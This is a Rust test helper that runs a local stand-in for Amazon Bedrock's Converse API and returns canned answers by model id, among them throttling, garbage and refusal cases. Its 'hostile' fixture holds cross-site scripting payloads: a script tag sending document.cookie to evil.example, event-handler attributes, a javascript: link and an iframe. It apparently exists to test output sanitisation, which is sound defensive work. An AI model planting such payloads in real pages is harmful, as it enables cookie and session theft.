//! A stand-in for Amazon Bedrock's runtime that speaks the Converse wire protocol (restJson1:
//! `POST /model/{modelId}/converse`, JSON in and out, errors named by `x-amzn-ErrorType`), so
//! the real SDK client runs against it. The model id picks the behaviour:
//!
//! | model id   | answer                                                                    |
//! |------------|---------------------------------------------------------------------------|
//! | `summary…` | a well-formed three-section summary naming the transcript's line count     |
//! | `hostile`  | the same with script tags, event attributes, links and unclosed tags       |
//! | `throttle` | `429` `ThrottlingException`, as Bedrock sends it                           |
//! | `slow`     | a good summary after 30 seconds                                            |
//! | `garbage`  | `200` with a body that is not JSON                                         |
//! | `refusal`  | `200` with text that is no summary                                         |
//!
//! One stand-in serves the whole test process (on its own thread), and
//! `AWS_ENDPOINT_URL_BEDROCK_RUNTIME` points the SDK at it.

use std::sync::{LazyLock, Mutex};
use std::time::Duration;

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::body::Incoming;
use hyper::{Request, Response};
use hyper_util::rt::TokioIo;
use serde_json::{json, Value};

pub struct BedrockStandIn {
    pub url: String,
    requests: Mutex<Vec<(String, Value)>>,
}

static STAND_IN: LazyLock<BedrockStandIn> = LazyLock::new(|| {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    listener.set_nonblocking(true).expect("non-blocking");
    let url = format!("http://{}", listener.local_addr().expect("addr"));
    std::thread::spawn(move || {
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .expect("runtime");
        runtime.block_on(serve(listener));
    });
    // Set once, before any test of this process loads an SDK configuration.
    std::env::set_var("AWS_ENDPOINT_URL_BEDROCK_RUNTIME", &url);
    BedrockStandIn {
        url,
        requests: Mutex::new(Vec::new()),
    }
});

impl BedrockStandIn {
    /// The process's stand-in, started on first use; sets `AWS_ENDPOINT_URL_BEDROCK_RUNTIME`.
    pub fn shared() -> &'static Self {
        &STAND_IN
    }

    /// The Converse request bodies received for `model_id`, in order.
    pub fn requests_for(&self, model_id: &str) -> Vec<Value> {
        self.requests
            .lock()
            .expect("lock")
            .iter()
            .filter(|(m, _)| m == model_id)
            .map(|(_, body)| body.clone())
            .collect()
    }
}

async fn serve(listener: std::net::TcpListener) {
    let listener = tokio::net::TcpListener::from_std(listener).expect("tokio listener");
    loop {
        let Ok((stream, _)) = listener.accept().await else {
            continue;
        };
        tokio::spawn(async move {
            let service = hyper::service::service_fn(|request| async move {
                Ok::<_, std::convert::Infallible>(answer(request).await)
            });
            let _ = hyper::server::conn::http1::Builder::new()
                .serve_connection(TokioIo::new(stream), service)
                .await;
        });
    }
}

/// The text of a good summary, for a prompt of `lines` transcript lines.
pub fn good_summary(lines: usize) -> String {
    format!(
        "<p><strong>Customer Impression</strong></p><p>The customer called because their internet \
         drops every evening; they were frustrated at first and relieved by the end.</p>\
         <p><strong>Call Summary</strong></p><p>The agent offered the Fibre 500 plan at $45 a \
         month to match a competitor's quote; the customer accepted. ({lines} transcript lines \
         read.)</p><p><strong>Next Steps</strong></p><ol><li>The agent books a technician for \
         Thursday morning.</li><li>The customer confirms by email.</li></ol>"
    )
}

/// The same summary, as a hostile or broken model might write it.
pub const HOSTILE_SUMMARY: &str = "<p onmouseover=\"steal()\"><strong style=\"x\">Customer Impression</strong></p>\
<p>The customer called about evening outages.<script>fetch('https://evil.example/'+document.cookie)</script></p>\
<p><strong>Call Summary</strong><p>Offered the <a href=\"javascript:alert(1)\">Fibre 500</a> plan at $45 a month \
<img src=x onerror=alert(2)><iframe src=\"https://evil.example\"></iframe>\
<p><strong>Next Steps</strong></p><ol><li class=\"x\">Technician on Thursday<li>Confirm by email";

fn json_response(status: u16, body: Value, error_type: Option<&str>) -> Response<Full<Bytes>> {
    let mut builder = Response::builder()
        .status(status)
        .header("content-type", "application/json")
        .header("x-amzn-requestid", "stand-in-request");
    if let Some(kind) = error_type {
        builder = builder.header("x-amzn-ErrorType", kind);
    }
    builder
        .body(Full::new(Bytes::from(body.to_string())))
        .expect("response")
}

fn converse_answer(text: &str) -> Response<Full<Bytes>> {
    json_response(
        200,
        json!({
            "output": {"message": {"role": "assistant", "content": [{"text": text}]}},
            "stopReason": "end_turn",
            "usage": {"inputTokens": 100, "outputTokens": 50, "totalTokens": 150},
            "metrics": {"latencyMs": 12}
        }),
        None,
    )
}

async fn answer(request: Request<Incoming>) -> Response<Full<Bytes>> {
    let path = request.uri().path().to_owned();
    let method = request.method().clone();
    let body = request
        .into_body()
        .collect()
        .await
        .map(|b| b.to_bytes())
        .unwrap_or_default();
    let model = path
        .strip_prefix("/model/")
        .and_then(|rest| rest.strip_suffix("/converse"))
        .map(percent_decode);
    let (Some(model), true) = (model, method == hyper::Method::POST) else {
        return json_response(
            404,
            json!({"message": format!("no route for {method} {path}")}),
            Some("ResourceNotFoundException"),
        );
    };
    let Ok(parsed) = serde_json::from_slice::<Value>(&body) else {
        return json_response(
            400,
            json!({"message": "body is not JSON"}),
            Some("ValidationException"),
        );
    };
    let prompt = parsed["messages"][0]["content"][0]["text"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    STAND_IN
        .requests
        .lock()
        .expect("lock")
        .push((model.clone(), parsed));
    let lines = prompt
        .lines()
        .filter(|l| l.starts_with("AGENT: ") || l.starts_with("CUSTOMER: "))
        .count();
    match model.as_str() {
        "throttle" => json_response(
            429,
            json!({"message": "Too many requests, please wait before trying again."}),
            Some("ThrottlingException"),
        ),
        "slow" => {
            tokio::time::sleep(Duration::from_secs(30)).await;
            converse_answer(&good_summary(lines))
        }
        "garbage" => Response::builder()
            .status(200)
            .header("content-type", "application/json")
            .body(Full::new(Bytes::from_static(
                b"<html>502 Bad Gateway</html>{",
            )))
            .expect("response"),
        "refusal" => converse_answer("I'm sorry, I can't summarise this conversation."),
        "hostile" => converse_answer(HOSTILE_SUMMARY),
        m if m.starts_with("summary") => converse_answer(&good_summary(lines)),
        _ => json_response(
            400,
            json!({"message": "The provided model identifier is invalid."}),
            Some("ValidationException"),
        ),
    }
}

fn percent_decode(text: &str) -> String {
    percent_encoding::percent_decode_str(text)
        .decode_utf8_lossy()
        .into_owned()
}
